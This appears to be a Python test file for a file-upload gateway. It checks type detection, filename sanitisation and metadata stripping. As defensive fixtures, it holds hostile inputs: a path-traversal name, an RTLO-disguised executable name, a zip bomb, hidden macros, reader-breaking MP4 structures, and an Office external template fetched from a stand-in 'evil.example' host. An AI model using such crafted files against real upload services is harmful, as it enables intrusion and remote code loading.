"""What a file is, is told by its content; what is shown of it carries no trace of who made it, or where."""

import io
import time
import zipfile

import pytest
from PIL import Image
from PIL.ExifTags import IFD, Base
from pypdf import PdfReader

from services.gateway import shown_copy
from services.gateway.file_kinds import DOCX, FILE_AT_MOST, XLSX, name_of, type_of
from shared.errors import Invalid
from tests.support import files_of_people as people

OLE = bytes.fromhex("d0cf11e0a1b11ae1") + bytes(504)


@pytest.mark.parametrize(
    ("data", "type"),
    [
        (people.photograph(), "image/jpeg"),
        (people.picture("PNG"), "image/png"),
        (people.picture("GIF"), "image/gif"),
        (people.picture("WEBP"), "image/webp"),
        (people.pdf(), "application/pdf"),
        (people.office(), DOCX),
        (people.office("xl"), XLSX),
        (OLE + "WordDocument".encode("utf-16-le"), "application/msword"),
        (OLE + "Workbook".encode("utf-16-le"), "application/vnd.ms-excel"),
        ("水渠断了。\r\n".encode(), "text/plain"),
        ("水渠断了。".encode("gb18030"), "text/plain"),
        (b"ID3\x04\x00\x00\x00\x00\x00\x0a" + bytes(10) + b"\xff\xfb\x90\x00", "audio/mpeg"),
        (b"\xff\xfb\x90\x00" + bytes(100), "audio/mpeg"),
        (people.box(b"ftyp", b"M4A \0\0\0\0"), "audio/mp4"),
        (b"#!AMR\n\x3c" + bytes(20), "audio/amr"),
        (people.film(), "video/mp4"),
    ],
)
def test_the_content_tells_what_a_file_is(data: bytes, type: str) -> None:
    assert type_of(data) == type


@pytest.mark.parametrize(
    ("data", "code"),
    [
        (b"", "file_empty"),
        (b"x" * (FILE_AT_MOST + 1), "file_too_large"),
        (b"MZ\x90\x00\x03" + bytes(60), "file_type_not_taken"),
        (people.box(b"ftyp", b"heic\0\0\0\0"), "file_type_not_taken"),
        (people.office(parts={"word/vbaProject.bin": b"macro"}), "file_type_not_taken"),
        (OLE, "file_type_not_taken"),
        (people.bomb(), "archive_too_large"),
        (b"PK\x03\x04 broken", "file_unreadable"),
    ],
)
def test_what_is_not_of_the_list_is_refused_with_a_reason(data: bytes, code: str) -> None:
    with pytest.raises(Invalid) as refusal:
        type_of(data)
    assert refusal.value.fields == {"file": code}


def test_an_archive_of_something_else_is_no_document() -> None:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("a.txt", "x")
    with pytest.raises(Invalid):
        type_of(out.getvalue())


@pytest.mark.parametrize(
    ("told", "type", "shown"),
    [
        ("照片.jpg", "image/jpeg", "照片.jpg"),
        ("photo.JPEG", "image/jpeg", "photo.jpg"),
        ("../../etc/passwd", "text/plain", "passwd.txt"),
        ("C:\\temp\\合同.docx", DOCX, "合同.docx"),
        ("invoice\u202egpj.exe", "image/jpeg", "invoicegpj.exe.jpg"),
        ("", "application/pdf", "附件.pdf"),
        ("....", "application/pdf", "附件.pdf"),
        ('a<b>"c"\n.pdf', "application/pdf", "a b c.pdf"),
        ("长" * 300 + ".png", "image/png", "长" * 80 + ".png"),
    ],
)
def test_a_name_is_safe_and_says_what_the_file_is(told: str, type: str, shown: str) -> None:
    assert name_of(told, type) == shown


def test_the_shown_photograph_stands_upright_and_knows_no_camera_and_no_place() -> None:
    original = people.photograph()
    assert people.CAMERA.encode() in original
    copy, type = shown_copy.strip(original, "image/jpeg")
    shown = Image.open(io.BytesIO(copy))
    assert type == "image/jpeg"
    assert shown.size == (40, 60)
    assert not shown.getexif()
    assert not shown.getexif().get_ifd(IFD.GPSInfo)
    assert Base.Make not in shown.getexif()
    assert people.CAMERA.encode() not in copy
    assert b"secret comment" not in copy


def test_a_picture_of_too_many_points_is_not_painted() -> None:
    out = io.BytesIO()
    Image.new("1", (20_000, 20_000)).save(out, "PNG")
    with pytest.raises(Invalid) as refusal:
        shown_copy.make(out.getvalue(), "image/png")
    assert refusal.value.fields == {"file": "file_unreadable"}


def test_the_shown_pdf_has_its_page_and_neither_author_nor_script() -> None:
    made = shown_copy.make(people.pdf(), "application/pdf")
    assert made is not None
    shown = PdfReader(io.BytesIO(made[0]))
    assert len(shown.pages) == 1
    assert not shown.metadata
    assert b"app.alert" not in made[0]
    assert people.AUTHOR.encode("utf-16-be") not in made[0]


def test_a_locked_pdf_is_refused_as_locked() -> None:
    with pytest.raises(Invalid) as refusal:
        shown_copy.make(people.pdf("password"), "application/pdf")
    assert refusal.value.fields == {"file": "file_locked"}


def test_the_shown_document_keeps_its_words_and_loses_its_author_and_the_pictures_places() -> None:
    copy, _ = shown_copy.strip(people.office(), DOCX)
    with zipfile.ZipFile(io.BytesIO(copy)) as archive:
        assert "正文" in archive.read("word/document.xml").decode()
        everything = b"".join(archive.read(name) for name in archive.namelist())
    assert people.AUTHOR.encode() not in everything
    assert people.CAMERA.encode() not in everything


def test_the_shown_film_does_not_say_where_it_was_taken_and_is_as_long_as_before() -> None:
    copy, _ = shown_copy.strip(people.film(), "video/mp4")
    assert b"+30.2014" in people.film()
    assert b"+30.2014" not in copy
    assert len(copy) == len(people.film())
    assert type_of(copy) == "video/mp4"


def test_the_shown_sound_has_no_tags() -> None:
    frame = b"\xff\xfb\x90\x00" + bytes(100)
    tagged = b"ID3\x04\x00\x00\x00\x00\x00\x05" + b"title" + frame + b"TAG" + b"author".ljust(125)
    assert shown_copy.strip(tagged, "audio/mpeg")[0] == frame


def test_shown_text_is_in_unicode() -> None:
    assert shown_copy.strip("水渠".encode("gb18030"), "text/plain") == ("水渠".encode(), "text/plain; charset=utf-8")


@pytest.mark.parametrize(
    "film",
    [
        people.box(b"ftyp", b"isom\0\0\2\0") + b"\xff" * 100,
        people.box(b"ftyp", b"isom\0\0\2\0")
        + b"".join((8 * (5000 - n)).to_bytes(4, "big") + b"moov" for n in range(5000)),
    ],
    ids=["a box longer than its file", "boxes within boxes"],
)
def test_a_film_made_to_break_its_reader_is_refused_like_any_that_cannot_be_read(film: bytes) -> None:
    with pytest.raises(Invalid) as refusal:
        shown_copy.make(film, type_of(film))
    assert refusal.value.fields == {"file": "file_unreadable"}


def test_a_sound_of_nothing_but_tags_keeps_nobody_waiting() -> None:
    tags = b"ID3\x03\0\0\0\0\0\0" * 400_000
    begun = time.monotonic()
    assert len(shown_copy.strip(tags, "audio/mpeg")[0]) <= 10
    assert time.monotonic() - begun < 5


RELATIONS = "http://schemas.openxmlformats.org/package/2006/relationships"
TEMPLATE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"
MACROS = "http://schemas.microsoft.com/office/2006/relationships/vbaProject"


def relations(kind: str, target: str, mode: str = "", encoding: str = "utf-8") -> bytes:
    return (
        f'<?xml version="1.0" encoding="{encoding}"?><Relationships xmlns="{RELATIONS}">'
        f'<Relationship Id="rId1" Type="{kind}" Target="{target}"{mode}/></Relationships>'
    ).encode(encoding)


@pytest.mark.parametrize("encoding", ["utf-8", "utf-16"])
def test_the_shown_document_fetches_nothing_from_outside_when_it_is_opened(encoding: str) -> None:
    outside = relations(TEMPLATE, "http://evil.example/t.dotm", ' TargetMode="External"', encoding)
    inside = relations(TEMPLATE, "media/image1.jpeg")
    parts = {"word/_rels/settings.xml.rels": outside, "word/_rels/document.xml.rels": inside}
    copy, _ = shown_copy.strip(people.office(parts=parts), DOCX)
    with zipfile.ZipFile(io.BytesIO(copy)) as archive:
        assert b"evil.example" not in archive.read("word/_rels/settings.xml.rels")
        assert b"about:blank" in archive.read("word/_rels/settings.xml.rels")
        assert b'Target="media/image1.jpeg"' in archive.read("word/_rels/document.xml.rels")


def test_macros_under_another_name_are_not_taken() -> None:
    hidden = {"word/_rels/document.xml.rels": relations(MACROS, "media/notes.bin"), "word/media/notes.bin": b"macro"}
    with pytest.raises(Invalid) as refusal:
        shown_copy.make(people.office(parts=hidden), DOCX)
    assert refusal.value.fields == {"file": "file_unreadable"}


def test_the_shown_document_does_not_name_who_commented_it() -> None:
    known = {
        "word/people.xml": f"<w15:person w15:author='{people.AUTHOR}' w15:userId=\"wang@qq.com\"/>".encode(),
        "xl/comments1.xml": f"<authors><author>{people.AUTHOR}</author></authors>".encode(),
        "xl/persons/person.xml": f'<person displayName="{people.AUTHOR}" userId="wang@qq.com"/>'.encode(),
    }
    copy, _ = shown_copy.strip(people.office(parts=known), DOCX)
    with zipfile.ZipFile(io.BytesIO(copy)) as archive:
        everything = b"".join(archive.read(name) for name in archive.namelist())
    assert people.AUTHOR.encode() not in everything
    assert b"wang@qq.com" not in everything
